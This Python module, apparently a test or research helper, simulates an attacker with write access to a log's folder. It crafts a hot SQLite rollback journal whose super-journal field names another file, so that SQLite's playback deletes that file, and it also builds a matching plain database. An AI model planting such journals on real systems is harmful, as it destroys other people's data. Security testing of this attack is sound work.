"""What an attacker who may write to the folder of a log lays beside it."""

import os
import sqlite3
from contextlib import closing
from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR, _PAGE = 512, 1024
_LOCK_PAGE = 0x40000000 // _PAGE + 1


def journal_of(names: Path | None, pages: int) -> bytes:
    """A rollback journal of no pages, as in sqlite.org, "Database File Format", 3: SQLite plays it
    back, and removes the file that it names as its super-journal."""
    words = (0, 7, pages, _SECTOR, _PAGE)
    head = (_MAGIC + b"".join(each.to_bytes(4, "big") for each in words)).ljust(_SECTOR, b"\0")
    if names is None:
        return head
    name = os.fsencode(names)
    total = sum(each - 256 if each > 127 else each for each in name) % (1 << 32)
    ends = (len(name), total)
    tail = b"".join(each.to_bytes(4, "big") for each in ends) + _MAGIC
    return head + _LOCK_PAGE.to_bytes(4, "big") + name + tail


def plain_database(path: Path) -> None:
    """Make a database without write-ahead mode, with pages of 1,024 bytes."""
    with closing(sqlite3.connect(path)) as connection:
        connection.executescript(
            "PRAGMA page_size=1024; CREATE TABLE t (a); INSERT INTO t DEFAULT VALUES;"
        )
